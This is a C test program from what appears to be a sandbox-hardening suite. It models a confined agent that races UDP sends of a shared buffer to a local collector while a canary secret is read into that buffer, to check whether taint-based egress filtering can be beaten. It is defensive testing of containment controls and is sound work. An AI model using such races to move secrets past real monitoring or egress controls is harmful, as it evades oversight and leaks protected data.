// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* race_recv_send - the window between mncd's answer and the taint. A second thread of the agent
 * spins on sendto(UDP, the collector on 127.0.0.1) of the very buffer the main thread read()s
 * mncd's recv answer into, from the first byte of the answer on; a third spins on send() over
 * a UDP socket connected to the collector before the recv (no sendmsg hook on a connected
 * socket: only the per-packet egress program). If the answer (and so the canary) could be in
 * the agent's memory before its taint is in the kernel's map, one of these packets would
 * carry it out.
 * Verifier: the collector's UDP endpoint (DIR/got).
 * Blocks it: ordering - mncd writes the recipient's taint into the map (and freezes and sweeps
 * the agent) before it writes the answer (docs/kernel.md, "Stdio", ordering guarantee), and the
 * cgroup sendmsg4 / egress programs read the taint per send and per packet. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>

#include "atk.h"

static char buf[65536];
static volatile int stop;
static volatile long sent_ok, sent_fail, last_err;

struct spin {
    struct atk_ctx *c;
    int connected;
};

static void *spinner(void *arg)
{
    struct spin *sp = arg;
    int port = (int)atk_argl(sp->c, "udp4");
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0 || (sp->connected && connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0))
        return NULL;
    while (!stop && sent_ok + sent_fail < 512) {
        if (!buf[0]) {
            sched_yield();
            continue;
        }
        ssize_t r = sp->connected ? send(s, buf, 512, 0) : sendto(s, buf, 512, 0, (struct sockaddr *)&sa, sizeof(sa));
        if (r < 0) {
            sent_fail++;
            last_err = errno;
        } else {
            sent_ok++;
        }
    }
    close(s);
    return NULL;
}

static int agent(struct atk_ctx *c)
{
    struct spin a = {c, 0}, b = {c, 1};
    pthread_t t1, t2;
    if (atk_try(c, "thread (unconnected sendto)", -pthread_create(&t1, NULL, spinner, &a)) < 0 ||
        atk_try(c, "thread (connected send)", -pthread_create(&t2, NULL, spinner, &b)) < 0)
        return 0;
    const char *ctl = getenv("ATK_CONTROL_SECRET");
    if (ctl) {
        snprintf(buf, sizeof(buf), "%s", ctl);
        snprintf(c->secret, sizeof(c->secret), "%s", ctl);
        atk_say(c, "recv ok");
    } else {
        char line[16];
        atk_say(c, "hold recv");
        if (!fgets(line, sizeof(line), stdin))
            exit(4);
        int fd = atk_mncd(c);
        static const char req[] = "{\"verb\":\"recv\"}\n";
        if (fd < 0 || atk_write_all(fd, req, sizeof(req) - 1) < 0) {
            atk_say(c, "recv fail: mncd %s", atk_errname(errno));
            exit(3);
        }
        size_t got = 0;
        while (got + 1 < sizeof(buf) && !memchr(buf, '\n', got)) {
            ssize_t r = read(fd, buf + got, sizeof(buf) - 1 - got); /* straight into the spun buffer */
            if (r <= 0)
                break;
            got += (size_t)r;
        }
        close(fd);
        const char *v = strstr(buf, "\"selected_slot\":\"");
        if (!v) {
            atk_say(c, "recv fail: %.150s", buf);
            exit(3);
        }
        snprintf(c->secret, sizeof(c->secret), "%.*s", (int)strcspn(v + 17, "\""), v + 17);
        atk_say(c, "recv ok");
    }
    struct timespec ts = {0, 200 * 1000 * 1000};
    nanosleep(&ts, NULL);
    stop = 1;
    pthread_join(t1, NULL);
    pthread_join(t2, NULL);
    atk_note(c, "sends after the answer arrived: %ld ok, %ld refused (last %s)", sent_ok, sent_fail,
             atk_errname((int)last_err));
    return 0;
}

static const struct atk A = {"race_recv_send",
                             "threads spinning on UDP sends of the buffer mncd's recv answer is read into",
                             ATK_NO_RECV,
                             NULL,
                             agent,
                             NULL,
                             NULL,
                             NULL};
ATK_MAIN(A)
